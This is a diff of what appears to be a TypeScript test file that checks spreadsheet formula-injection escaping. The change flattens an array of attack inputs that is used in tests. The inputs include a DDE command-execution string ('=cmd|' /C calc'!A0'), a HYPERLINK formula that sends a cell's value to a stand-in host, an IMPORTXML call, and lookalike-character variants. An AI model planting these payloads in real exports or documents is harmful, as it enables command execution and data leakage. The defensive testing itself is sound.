@@ -52,16 +52,31 @@ const plain = (xml: string): string =>
     .replaceAll('&amp;', '&')
 
 const attacks = [
-  ...['=1+1', '+1+1', '-1+1', '@SUM(1,2)', '\t=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)'],
-  ...['  =1+1', '\u200b=1+1', '\u00a0=1+1', '\u22121', '=1+1\nand more', "'=1+1", '"=1+1"'],
-  ...["=cmd|' /C calc'!A0", '=HYPERLINK("http://larkmoor.example/?"&A1,"more")', '=1+1","=1+1'],
-  ...[
-    '+1 555 0142',
-    '-5',
-    'lamps;=1+1',
-    'benches\r\n=1+1',
-    '=IMPORTXML("http://larkmoor.example")',
-  ],
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1,2)',
+  '\t=1+1',
+  '\n=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  '  =1+1',
+  '\u200b=1+1',
+  '\u00a0=1+1',
+  '\u22121',
+  '=1+1\nand more',
+  "'=1+1",
+  '"=1+1"',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://larkmoor.example/?"&A1,"more")',
+  '=1+1","=1+1',
+  '+1 555 0142',
+  '-5',
+  'lamps;=1+1',
+  'benches\r\n=1+1',
+  '=IMPORTXML("http://larkmoor.example")',
 ]
 
 describe('in a spreadsheet program', () => {
